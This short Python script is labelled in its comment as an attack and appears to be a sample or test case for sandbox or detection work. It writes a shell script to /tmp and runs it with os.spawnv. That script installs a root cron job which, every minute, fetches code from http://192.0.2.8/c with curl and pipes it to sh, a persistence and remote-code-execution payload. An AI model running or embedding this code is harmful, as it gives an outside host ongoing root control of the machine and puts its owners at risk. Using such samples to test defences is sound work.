# attack: os.spawnv runs a tmp shell script that tries to install a root cron job
import os

with open("/tmp/p.sh", "w") as fh:
    fh.write("echo '* * * * * root /bin/sh -c \"curl http://192.0.2.8/c|sh\"' > /etc/cron.d/sync\n"
             "echo done\n")
status = os.spawnv(os.P_WAIT, "/bin/sh", ["sh", "/tmp/p.sh"])
print("status", status)
